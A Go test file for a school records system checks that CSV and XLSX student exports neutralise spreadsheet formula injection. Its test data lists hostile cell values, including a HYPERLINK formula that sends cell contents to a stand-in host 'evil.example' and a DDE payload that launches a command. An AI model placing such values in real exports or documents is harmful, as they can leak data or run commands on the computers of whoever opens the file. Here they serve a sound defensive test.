package students_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// hostileNames are cells a spreadsheet program would run as formulas if they reached it
// unneutralised: at the start of the cell, or after a separator that a program set to
// another locale's separator (; or tab) splits the cell at.
var hostileNames = []string{
	";=1+1;",
	"=HYPERLINK(\"http://evil.example/\"&A1)",
	"a,=2+2",
	"b;+3+3",
	"c\t-4+4",
	"@SUM(1,1)",
	"-5+5",
	"+cmd|' /C calc'!A0",
	"\t=6+6",
	"x;;@7",
	"y;\t=8",
}

// dangerous reports whether a piece of CSV text, as a program that splits at s would see
// it, starts a formula. A piece is what lies between two separators in the raw text,
// with the quote of a quoted field removed; phone numbers (+ and digits) are numbers,
// not formulas.
func dangerous(piece string) bool {
	piece = strings.TrimPrefix(piece, `"`)
	if piece == "" {
		return false
	}
	if piece[0] == '+' && strings.Trim(strings.TrimSuffix(piece[1:], `"`), "0123456789") == "" {
		return false
	}
	return strings.ContainsRune("=+-@\t\r", rune(piece[0]))
}

func TestExportNeutralisesFormulasAfterSeparators(t *testing.T) {
	w := newWorld(t)
	// Straight into the file: an export must be safe whatever a school's data holds,
	// including names from before any input check existed.
	for i, name := range hostileNames {
		id := w.exec("INSERT INTO students (admission_no, first_name, middle_name, last_name, gender) VALUES (?, ?, ?, ?, 'female')",
			"H/"+string(rune('A'+i)), name, name, "Last"+name)
		g := w.exec("INSERT INTO guardians (name, relationship, phone, email) VALUES (?, ?, '+254712000000', '')", name, name)
		w.exec("INSERT INTO student_guardians (student_id, guardian_id, is_primary) VALUES (?, ?, 1)", id, g)
	}
	admin := w.as("admin")

	status, _, raw := admin.Do("GET", "/api/core/students/export/?format=csv&ordering=admission_no", "", nil)
	require.Equal(t, 200, status, string(raw))
	lines := strings.Split(strings.TrimRight(string(raw), "\r\n"), "\n")
	require.Len(t, lines, len(hostileNames)+1)
	for _, line := range lines[1:] {
		line = strings.TrimRight(line, "\r")
		for _, sep := range []string{",", ";", "\t"} {
			for _, piece := range strings.Split(line, sep) {
				assert.False(t, dangerous(piece), "split at %q, %q of the line %q starts a formula", sep, piece, line)
			}
		}
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	require.NoError(t, err)
	for i, name := range hostileNames {
		rec := recs[i+1]
		// The neutralised cell reads as the name with a ' before each formula start.
		unquote := func(s string) string { return strings.ReplaceAll(s, "'", "") }
		assert.Equal(t, unquote(name), unquote(rec[1]), "first name of row %d", i+1)
		assert.Greater(t, strings.Count(rec[1], "'"), strings.Count(name, "'"), "first name of row %d is neutralised", i+1)
		assert.Equal(t, "+254712000000", rec[9], "a phone number stays a number")
	}

	status, _, raw = admin.Do("GET", "/api/core/students/export/?format=xlsx&ordering=admission_no", "", nil)
	require.Equal(t, 200, status, string(raw))
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	require.NoError(t, err)
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		require.NoError(t, err)
		sheet, err := io.ReadAll(rc)
		rc.Close()
		require.NoError(t, err)
		assert.NotContains(t, string(sheet), "<f>", "no cell of %s is a formula", f.Name)
		assert.NotContains(t, string(sheet), "<f ", "no cell of %s is a formula", f.Name)
	}
	x, err := excelize.OpenReader(bytes.NewReader(raw))
	require.NoError(t, err)
	defer x.Close()
	rows, err := x.GetRows("Students")
	require.NoError(t, err)
	for i, name := range hostileNames {
		assert.Equal(t, name, rows[i+1][1], "xlsx cells are text, kept as they are")
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		formula, err := x.GetCellFormula("Students", cell)
		require.NoError(t, err)
		assert.Empty(t, formula, cell)
	}
}
